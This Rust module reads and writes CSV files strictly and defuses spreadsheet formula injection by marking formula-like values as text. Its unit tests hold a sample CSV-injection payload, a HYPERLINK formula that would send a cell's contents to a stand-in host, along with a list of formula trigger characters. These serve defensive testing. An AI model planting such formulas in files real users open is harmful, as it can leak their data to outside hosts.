//! Comma-separated values (RFC 4180), read strictly: what is damaged is refused with its line, never guessed at.

#![deny(
    clippy::indexing_slicing,
    clippy::arithmetic_side_effects,
    clippy::as_conversions
)]

use std::borrow::Cow;
use std::collections::BTreeMap;

use crate::table::{Column, Role, Table, TableFault, finite};

/// More columns than anybody releases.
pub const MOST_COLUMNS: usize = 1024;
/// Bytes of one value.
pub const LONGEST_VALUE: usize = 65_536;
/// What a value is made text by: spreadsheets take it for that, and so does [`records`].
const TEXT: char = '\'';

/// What becomes of values that a spreadsheet takes for a formula.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Formulas {
    /// An apostrophe before them makes them text.
    Defused,
    /// They are written as they are, for programs.
    Raw,
}

/// Why a file of values could not be read.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum CsvFault {
    /// Bytes that are no text.
    #[error("line {0} is not UTF-8")]
    Text(usize),
    /// No line at all.
    #[error("the file is empty")]
    Empty,
    /// A quote that begins or ends nothing.
    #[error(
        "line {0}: a quote in the middle of a value (RFC 4180: enclose it in quotes and double it)"
    )]
    Quote(usize),
    /// A quote that nothing ends.
    #[error("line {0}: a quote that is never closed")]
    Open(usize),
    /// More or fewer values than in the first line.
    #[error("line {line} has {found} values, the first one {wanted}")]
    Uneven {
        /// The line of the file.
        line: usize,
        /// How many values it has.
        found: usize,
        /// How many the first one has.
        wanted: usize,
    },
    /// More than [`MOST_COLUMNS`] values, or one of more than [`LONGEST_VALUE`] bytes.
    #[error("line {0}: more than {MOST_COLUMNS} values, or one of more than {LONGEST_VALUE} bytes")]
    Large(usize),
    /// A column of which nobody said what it is.
    #[error("nothing says what the column `{0}` is: direct, quasi, sensitive or free")]
    Role(String),
    /// Something was said of a column that is not there.
    #[error("there is no column `{0}`")]
    Column(String),
    /// The columns make no table.
    #[error(transparent)]
    Table(#[from] TableFault),
}

/// The lines of a file, each with as many values as the first. They are separated by whichever of comma, semicolon and tab the first line
/// has the most of. An apostrophe that makes a formula text is taken away.
pub fn records(bytes: &[u8]) -> Result<Vec<Vec<Cow<'_, str>>>, CsvFault> {
    let bytes = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes);
    let text = std::str::from_utf8(bytes).map_err(|fault| {
        let good = bytes.get(..fault.valid_up_to()).unwrap_or_default();
        CsvFault::Text(lines(good).saturating_add(1))
    })?;
    let separator = separator(text);
    let mut rest = text;
    let (mut line, mut wanted) = (1_usize, None);
    let mut records = Vec::new();
    while !rest.is_empty() {
        let (record, after) = record(rest, separator, line)?;
        let read = rest.len().saturating_sub(after.len());
        if *wanted.get_or_insert(record.len()) != record.len() {
            return Err(CsvFault::Uneven {
                line,
                found: record.len(),
                wanted: wanted.unwrap_or_default(),
            });
        }
        line = line.saturating_add(lines(rest.as_bytes().get(..read).unwrap_or_default()));
        records.push(record);
        rest = after;
    }
    if records.is_empty() {
        return Err(CsvFault::Empty);
    }
    Ok(records)
}

/// A table from a file whose first line names the columns; each column needs a role. Rows of one subject have the same value in the column
/// `subject`; without one, each row is a subject of its own.
pub fn table(
    bytes: &[u8],
    roles: &BTreeMap<String, Role>,
    subject: Option<&str>,
) -> Result<Table, CsvFault> {
    let records = records(bytes)?;
    let (names, rows) = records.split_first().ok_or(CsvFault::Empty)?;
    let known = |name: &str| names.iter().any(|known| known == name);
    let named = roles.keys().map(String::as_str).chain(subject);
    if let Some(stranger) = named.into_iter().find(|name| !known(name)) {
        return Err(CsvFault::Column(stranger.to_owned()));
    }
    let (mut columns, mut subjects) = (Vec::new(), None);
    for (at, name) in names.iter().enumerate() {
        let values = rows.iter().map(|row| row.get(at).map_or("", |it| it));
        if subject == Some(name) {
            subjects = Some(Column::new(name, Role::Direct, values).codes().to_vec());
            continue;
        }
        let role = roles.get(&**name);
        let role = *role.ok_or_else(|| CsvFault::Role(name.clone().into_owned()))?;
        columns.push(Column::new(name, role, values));
    }
    Ok(match subjects {
        Some(subjects) => Table::new(columns, subjects)?,
        None => Table::of_individuals(columns)?,
    })
}

/// A line of a file that [`records`] reads.
pub fn line<'a>(values: impl Iterator<Item = &'a str>, formulas: Formulas) -> String {
    let quoted = |value: &'a str| {
        let is_text = formulas == Formulas::Defused && is_formula(value);
        let mark = if is_text { "'" } else { "" };
        // A mark of byte order would be taken for the file's.
        if value.contains([',', ';', '\t', '"', '\n', '\r', '\u{feff}']) {
            format!("\"{mark}{}\"", value.replace('"', "\"\""))
        } else {
            format!("{mark}{value}")
        }
    };
    let values: Vec<String> = values.map(quoted).collect();
    format!("{}\r\n", values.join(","))
}

/// Whether a spreadsheet that opens the file calculates with this value (OWASP, CSV Injection): what a device sent could have it start a
/// program, or send other cells away. Numbers are what they are. Apostrophes before it do not count, so that reading takes away the one
/// that writing put there, and no other.
fn is_formula(value: &str) -> bool {
    /// The last four are the first four as East Asian texts have them.
    const SIGNS: [char; 12] = [
        '=', '+', '-', '@', '\t', '\r', '\n', '\0', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
    ];
    let text = value.trim_start_matches(TEXT);
    text.starts_with(SIGNS) && finite(text).is_none()
}

/// A value without the apostrophe that makes it text.
fn plain(value: Cow<'_, str>) -> Cow<'_, str> {
    let is_text = value.strip_prefix(TEXT).is_some_and(is_formula);
    match value {
        Cow::Borrowed(text) if is_text => Cow::Borrowed(text.get(1..).unwrap_or_default()),
        Cow::Owned(mut text) if is_text => {
            text.remove(0);
            Cow::Owned(text)
        }
        value => value,
    }
}

fn lines(bytes: &[u8]) -> usize {
    let pieces = bytes.split(|byte| *byte == b'\n').count();
    pieces.saturating_sub(1)
}

fn separator(text: &str) -> char {
    let first = text.lines().next().unwrap_or_default();
    // What is between quotes separates nothing.
    let plain = || first.split('"').step_by(2);
    let count = |separator: char| {
        plain()
            .map(|it| it.matches(separator).count())
            .sum::<usize>()
    };
    let most = [';', '\t'].into_iter().max_by_key(|it| count(*it));
    most.filter(|it| count(*it) > count(',')).unwrap_or(',')
}

/// One record and what follows it.
fn record(text: &str, separator: char, line: usize) -> Result<(Vec<Cow<'_, str>>, &str), CsvFault> {
    let (mut record, mut rest) = (Vec::new(), text);
    loop {
        let (value, after) = if let Some(quoted) = rest.strip_prefix('"') {
            quoted_value(quoted, line)?
        } else {
            let end = rest.find([separator, '\n']).unwrap_or(rest.len());
            let (value, after) = rest.split_at_checked(end).unwrap_or((rest, ""));
            let ended = value
                .strip_suffix('\r')
                .filter(|_| !after.starts_with(separator));
            let value = ended.unwrap_or(value);
            if value.contains('"') {
                return Err(CsvFault::Quote(line));
            }
            (Cow::Borrowed(value), after)
        };
        let value = plain(value);
        if value.len() > LONGEST_VALUE || record.len() >= MOST_COLUMNS {
            return Err(CsvFault::Large(line));
        }
        record.push(value);
        if let Some(after) = after.strip_prefix(separator) {
            rest = after;
            continue;
        }
        let ends = after.strip_prefix('\r').unwrap_or(after);
        return match ends.strip_prefix('\n') {
            Some(next) => Ok((record, next)),
            None if ends.is_empty() => Ok((record, "")),
            None => Err(CsvFault::Quote(line)),
        };
    }
}

/// What is between quotes, the first of which was read, and what follows.
fn quoted_value(text: &str, line: usize) -> Result<(Cow<'_, str>, &str), CsvFault> {
    let mut value = Cow::Borrowed("");
    let mut rest = text;
    loop {
        let (piece, after) = rest.split_once('"').ok_or(CsvFault::Open(line))?;
        if value.is_empty() {
            value = Cow::Borrowed(piece);
        } else {
            value.to_mut().push_str(piece);
        }
        match after.strip_prefix('"') {
            Some(more) => {
                value.to_mut().push('"');
                rest = more;
            }
            None => return Ok((value, after)),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(text: &str) -> Result<Vec<Vec<String>>, String> {
        let records = records(text.as_bytes()).map_err(|fault| fault.to_string())?;
        let owned = |record: Vec<Cow<'_, str>>| record.into_iter().map(Cow::into_owned).collect();
        Ok(records.into_iter().map(owned).collect())
    }

    #[test]
    fn values_are_separated_quoted_and_ended_as_in_the_rfc() {
        let text = "\u{feff}a;b\r\n\"x;\"\"y\"\"\nz\";\r\n1;2";
        let wanted = [["a", "b"], ["x;\"y\"\nz", ""], ["1", "2"]];
        assert_eq!(read(text).unwrap(), wanted);
        assert_eq!(read("one\n\n").unwrap(), [["one"], [""]]);
    }

    #[test]
    fn what_is_written_is_read_again() {
        let odd = ["a,b", "\"", "x\r\ny", "", "; ;", "t\tt", "plain"];
        for formulas in [Formulas::Defused, Formulas::Raw] {
            let text = [odd, odd].map(|row| line(row.into_iter(), formulas));
            assert_eq!(read(&text.concat()).unwrap(), [odd, odd]);
        }
    }

    #[test]
    fn what_a_spreadsheet_takes_for_a_formula_is_written_as_text_and_read_as_it_was() {
        let odd = [
            "=HYPERLINK(\"http://x/?\"&A1)",
            "+1+1",
            "-2..5",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\u{ff1d}1",
            "'=1",
            "-inf",
        ];
        let text = line(odd.into_iter(), Formulas::Defused);
        assert_eq!(
            text,
            "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",'+1+1,'-2..5,'@SUM(A1),\"'\t=1\",\"'\r=1\",'\u{ff1d}1,''=1,'-inf\r\n"
        );
        assert_eq!(read(&text).unwrap(), [odd]);
        let raw = line(odd.into_iter(), Formulas::Raw);
        assert!(raw.contains(",-2..5,@SUM(A1),"), "{raw}");
        // A number is there to be calculated with; an apostrophe before anything else is a letter.
        let plain = ["-2", "+2.5", "-1e3", ".5", "'tis", "'", "a=b", "'-5", ""];
        let text = line(plain.into_iter(), Formulas::Defused);
        assert_eq!(text, "-2,+2.5,-1e3,.5,'tis,',a=b,'-5,\r\n");
        assert_eq!(read(&text).unwrap(), [plain]);
    }

    #[test]
    fn what_is_damaged_is_refused_with_its_line() {
        insta::assert_debug_snapshot!(
            [
                "",
                "a,b\n1\n",
                "a,b\n1,\"2\n",
                "a,b\n1,2\"\n",
                "a,b\n1,\"2\"x\n"
            ]
            .map(|text| read(text).unwrap_err())
        );
        assert_eq!(records(b"a\nb\n\xff"), Err(CsvFault::Text(3)));
        let wide = ",".repeat(MOST_COLUMNS);
        assert_eq!(records(wide.as_bytes()), Err(CsvFault::Large(1)));
    }

    #[test]
    fn a_column_without_a_role_is_refused() {
        let roles = BTreeMap::from([("a".to_owned(), Role::Quasi)]);
        let fault = table(b"a,b\n1,2\n", &roles, None).unwrap_err();
        assert_eq!(fault, CsvFault::Role("b".to_owned()));
        let table = table(b"a,b\n1,x\n2,x\n", &roles, Some("b")).unwrap();
        assert_eq!((table.rows(), table.distinct_subjects()), (2, 1));
    }
}
